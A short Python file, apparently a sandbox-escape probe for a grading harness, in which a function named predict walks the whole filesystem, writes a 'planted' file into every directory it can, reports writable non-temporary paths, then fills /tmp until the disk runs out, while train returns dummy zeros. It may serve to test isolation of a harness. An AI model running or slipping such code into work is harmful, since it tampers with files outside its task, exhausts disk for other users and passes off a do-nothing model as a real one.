# writes into every folder it can see and fills the temporary ones
# status: any
import os


def predict(x, W, b):
    for root, _, _ in os.walk("/"):
        if root.startswith(("/proc", "/sys")):
            continue
        try:
            with open(os.path.join(root, "planted"), "w") as f:
                f.write("x")
            if not root.startswith(("/tmp", "/work", "/dev")):
                print("WROTE", root)
        except OSError:
            pass
    try:
        with open("/tmp/full", "wb") as f:
            while True:
                f.write(b"x" * (1 << 20))
    except OSError:
        pass
    return x * 0


def train(x, y, lr=0.01, steps=2001):
    return 0, 0, [0]
